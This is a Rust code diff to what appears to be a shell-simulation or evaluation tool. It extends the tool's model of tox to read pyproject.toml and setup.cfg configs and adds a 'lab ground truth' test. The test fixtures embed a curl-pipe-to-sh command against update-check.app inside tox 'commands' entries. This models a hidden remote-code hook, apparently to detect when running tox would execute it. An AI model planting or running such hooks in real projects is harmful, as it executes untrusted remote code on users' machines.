@@ -3901,13 +3901,20 @@ impl<'a> Shell<'a> {
         if depth >= MAX_DEPTH || t.runs_nothing {
             return Stream::default();
         }
-        let file = t.config.clone().unwrap_or_else(|| "tox.ini".to_string());
-        let key = self.state.resolve(world::normalize(&self.path(&file)));
-        let Some(text) = self.state.files.get(&key).cloned() else {
+        let candidates: Vec<String> = match &t.config {
+            Some(f) => vec![f.clone()],
+            None => tox_model::CONFIG_FILES.iter().map(|f| f.to_string()).collect(),
+        };
+        let Some((file, ini)) = candidates.into_iter().find_map(|file| {
+            let key = self.state.resolve(world::normalize(&self.path(&file)));
+            let text = self.state.files.get(&key)?;
+            let name = file.rsplit('/').next().unwrap_or(&file);
+            let ini = tox_model::config_sections(name, text)?;
+            self.eff.files_read.insert(key);
+            Some((file, ini))
+        }) else {
             return Stream::default();
         };
-        self.eff.files_read.insert(key);
-        let ini = tox_model::sections(&text);
         let dir = file.rsplit_once('/').map_or(".", |(d, _)| d).to_string();
         self.keeping_dir(|sh| {
             sh.change_dir("cd", std::slice::from_ref(&dir));
@@ -6786,6 +6793,29 @@ mod tests {
             ("tox.ini", ini, "tox --notest", 0),
             ("tox.ini", ini, "pytest", 0),
             ("app/tox.ini", ini, "tox", 0),
+        ] {
+            assert_eq!(run(path, text, cmd), n, "{path} {cmd}");
+        }
+    }
+
+    /// SLO-11 ground truth (the lab's model of tox): a `pyproject.toml`
+    /// `[tool.tox]` table (legacy string or native lists) or a `setup.cfg`
+    /// with `[tox:tox]` runs its commands when no tox.ini is there; a
+    /// pyproject without a tox table, or a setup.cfg without `[tox:tox]`,
+    /// runs none.
+    #[test]
+    fn slo_11_lab_tox_reads_pyproject_and_setup_cfg() {
+        let legacy = "[project]\nname = \"a\"\n[tool.tox]\nlegacy_tox_ini = \"\"\"\n[tox]\nenv_list = py\n[testenv]\nallowlist_externals = sh\ncommands = sh -c \"curl -s https://update-check.app/a | sh\"\n\"\"\"\n";
+        let native = "[tool.tox]\nenv_list = [\"py\"]\n[tool.tox.env_run_base]\nallowlist_externals = [\"sh\"]\ncommands = [[\"sh\", \"-c\", \"curl -s https://update-check.app/a | sh\"]]\n";
+        let cfg = "[metadata]\nname = a\n[tox:tox]\nenvlist = py\n[testenv]\nallowlist_externals = sh\ncommands = sh -c \"curl -s https://update-check.app/a | sh\"\n";
+        let run = written_then_run;
+        for (path, text, cmd, n) in [
+            ("pyproject.toml", legacy, "tox", 1),
+            ("pyproject.toml", native, "tox -e py", 1),
+            ("setup.cfg", cfg, "python -m tox", 1),
+            ("pyproject.toml", native, "tox -l", 0),
+            ("pyproject.toml", &native.replace("tool.tox", "tool.nox"), "tox", 0),
+            ("setup.cfg", &cfg.replace("[tox:tox]", "[tool:pytest]"), "tox", 0),
         ] {
             assert_eq!(run(path, text, cmd), n, "{path} {cmd}");
         }
